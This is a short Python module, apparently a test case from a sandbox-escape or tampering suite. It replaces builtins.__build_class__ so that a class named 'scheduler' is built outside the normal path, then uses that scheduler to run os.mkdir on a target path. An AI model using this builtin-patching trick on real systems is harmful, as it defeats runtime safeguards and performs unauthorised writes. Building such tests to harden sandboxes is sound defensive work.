"""A metaclass is in the way of the class statement."""
CATEGORY = "tampering"
REACH = "write"

import builtins
import os

from . import payload

genuine = builtins.__build_class__


def build(body, name, *bases, **keywords):
    if name != "scheduler":
        return genuine(body, name, *bases, **keywords)
    found = []
    genuine(body, name, metaclass=lambda *args: found.append(args))
    return type(*found[0])


vars(builtins)["__build_class__"] = build


def attack(scheduler):
    scheduler.enter(0, 1, os.mkdir, (payload.TARGET,))
